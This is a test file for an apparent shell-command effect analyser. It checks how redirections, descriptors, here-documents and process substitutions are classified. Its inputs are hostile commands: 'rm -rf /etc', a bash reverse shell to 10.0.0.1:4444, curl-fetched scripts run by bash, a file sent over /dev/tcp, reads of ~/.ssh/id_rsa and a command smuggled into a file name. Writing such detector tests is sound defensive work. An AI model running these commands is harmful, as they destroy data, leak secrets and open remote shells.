import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

type Row = readonly [name: string, commandLine: string, expected: readonly string[]]

describe('files', () => {
  test.each<Row>([
    ['out', 'echo x > out.txt', ['write out.txt']],
    ['append', 'echo x >> out.txt', ['write:append out.txt']],
    ['in', 'cat < in.txt', ['read in.txt']],
    ['errors', 'ls 2> err.log', ['write err.log', 'read:names .']],
    ['both', 'ls &> all.log', ['write all.log', 'read:names .']],
    ['both, the other way', 'ls >& all.log', ['write all.log', 'read:names .']],
    ['over a no-clobber', 'echo x >| f', ['write f']],
    ['both ways', 'cat <> f', ['read f', 'write f']],
    ['without a command', '> f', ['write f']],
    [
      'a name that bash takes for a word twice',
      `a='$(rm -rf /etc)'; echo >& "$a"`,
      ['unknown: bash expands the name behind `>&` twice', 'write $(rm -rf /etc)'],
    ],
    ['with quotes in it', 'echo >& "\'b\'"', ['unknown: bash expands the name behind `>&` twice', "write 'b'"]],
    ['a name made of an assignment in front', 'a=x; a=/etc/y cat > "$a"', ['write /etc/y', 'write x']],
    ['nothing of it in front of that', 'a=/etc/y; a=x cat > "$a"', ['write x', 'write /etc/y']],
    ['streams are no files', 'ls > /dev/null 2>&1', ['read:names .']],
    ['a target only known at run time', 'echo x > "$F"', ['unknown: writes `$F`, a path only known at run time']],
    ['a target that runs', 'echo x > "$(rm -rf /etc)"', ['delete /etc', 'unknown: writes `$(rm -rf /etc)`, a path only known at run time']],
    ['of a group', '{ echo a; rm b; } > out.txt', ['write out.txt', 'delete b']],
    ['of a loop', 'for i in a; do echo $i; done >> /etc/x', ['write:append /etc/x']],
    ['of a function', 'f() { echo a; } > /etc/x; f', ['write /etc/x']],
    [
      'more than anybody writes',
      `ls ${'< a '.repeat(101)} > /etc/x`,
      ['unknown: the command has more than 100 redirections', 'read a', 'read:names .'],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})

describe('descriptors', () => {
  test.each<Row>([
    ['opened and used', 'exec 3> /etc/passwd; echo x >&3', ['write /etc/passwd']],
    ['named by the shell', 'exec {fd}> /etc/passwd; echo x >&$fd', ['write /etc/passwd']],
    ['read through', 'exec 3< ~/.ssh/id_rsa; cat <&3', ['read ~/.ssh/id_rsa']],
    ['a script read through', "exec 3<<< 'rm -rf /etc'; sh <&3", ['delete /etc']],
    ['/dev/fd', "exec 3<<< 'rm -rf /etc'; bash /dev/fd/3", ['execute:project /dev/fd/3', 'delete /etc']],
    ['/dev/stdin', "bash /dev/stdin <<< 'rm -rf /etc'", ['delete /etc']],
    ['closed', 'exec 3>&-', []],
    ['a connection made by bash', 'echo x > /dev/tcp/x.example/80', ['connect:tunnel x.example:80', 'send:data /dev/tcp']],
    ['one to a host only known at run time', 'echo > /dev/tcp/$HOST/80', ['connect:tunnel $HOST:80', 'send:data /dev/tcp']],
    ['a server of this machine asked whether it is there', '(echo > /dev/tcp/localhost/5432)', ['connect:query localhost:5432']],
    ['a server of this machine read from', 'cat < /dev/tcp/localhost/5432', ['connect:query localhost:5432']],
    ['a command for it', 'echo FLUSHALL > /dev/tcp/localhost/6379', ['connect:query localhost:6379', 'send:data localhost:6379']],
    [
      'all that follows for it',
      'exec > /dev/tcp/localhost/6379; echo FLUSHALL',
      ['connect:query localhost:6379', 'send:data localhost:6379'],
    ],
    ...['exec 1<>/dev/tcp/localhost/6379; echo FLUSHALL', 'exec <>/dev/tcp/localhost/6379; echo FLUSHALL >&0'].map(
      (line): Row => ['opened for both', line, ['connect:query localhost:6379', 'send:data localhost:6379']],
    ),
    [
      'a command through a descriptor',
      'exec 3<>/dev/tcp/localhost/6379; echo FLUSHALL >&3',
      ['connect:query localhost:6379', 'send:data localhost:6379'],
    ],
    [
      'another machine beside it',
      'echo > /dev/tcp/localhost/80 2> /dev/tcp/x.example/80',
      ['connect:query localhost:80', 'connect:tunnel x.example:80', 'send:data /dev/tcp'],
    ],
    [
      'a shell joined to it',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      [
        'connect:tunnel 10.0.0.1:4444',
        'execute:arbitrary bash',
        'execute:remote-shell a shell joined to the network',
        'send:data /dev/tcp',
      ],
    ],
    [
      'a shell joined to it in a pipe',
      'echo a | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      [
        'connect:tunnel 10.0.0.1:4444',
        'execute:arbitrary bash',
        'execute:remote-shell a shell joined to the network',
        'send:data /dev/tcp',
      ],
    ],
    [
      'a file sent through it',
      'cat notes.txt > /dev/tcp/x.example/80',
      ['connect:tunnel x.example:80', 'read notes.txt', 'send:data /dev/tcp'],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})

describe('here-documents and here-strings', () => {
  test.each<Row>([
    ['a shell reads it', `sh <<EOF\nrm -rf /etc\nEOF`, ['delete /etc']],
    ['variables in it', `X=/etc; sh <<EOF\nrm -rf $X\nEOF`, ['delete /etc']],
    ['quoted: left to the inner shell', `sh <<'EOF'\nX=/etc; rm -rf $X\nEOF`, ['delete /etc']],
    ['indented by tabs', `sh <<-EOF\n\trm -rf /etc\n\tEOF`, ['delete /etc']],
    ['a string', "sh <<< 'rm -rf /etc'", ['delete /etc']],
    ['code in another language', `python3 <<EOF\nimport os\nos.system('rm -rf /etc')\nEOF`, ['delete /etc']],
    ['into a file, then run', `cat <<EOF > run.sh\nrm -rf /etc\nEOF\nsh run.sh`, ['write run.sh', 'execute:project run.sh', 'delete /etc']],
    ['two at once', `cat <<A; sh <<B\nrm a\nA\nrm b\nB`, ['delete b']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})

describe('process substitutions', () => {
  test.each<Row>([
    ['as a script', 'bash <(echo rm -rf /etc)', ['execute:project /dev/fd/substitution-5', 'delete /etc']],
    ['sourced', 'source <(echo rm -rf /etc)', ['delete /etc']],
    [
      'a download as a script',
      'bash <(curl -s https://x.example)',
      [
        'connect:get https://x.example',
        'execute:download /dev/fd/substitution-5',
        'unknown: runs `/dev/fd/substitution-5`, which this line makes in a way that is not followed',
      ],
    ],
    ['as a file', 'diff <(cat a) <(cat b)', ['read a', 'read b']],
    ['its command runs', 'cat <(rm -rf /etc)', ['delete /etc']],
    ['written to', 'echo rm -rf /etc > >(sh)', ['delete /etc']],
    ['written to through tee', 'echo rm -rf /etc | tee >(sh)', ['delete /etc']],
    [
      'written to by something opaque',
      'make > >(sh)',
      ['execute:project Makefile (default) (no manifest)', 'unknown: runs text from standard input as shell'],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine)).toEqual(expected)
  })
})
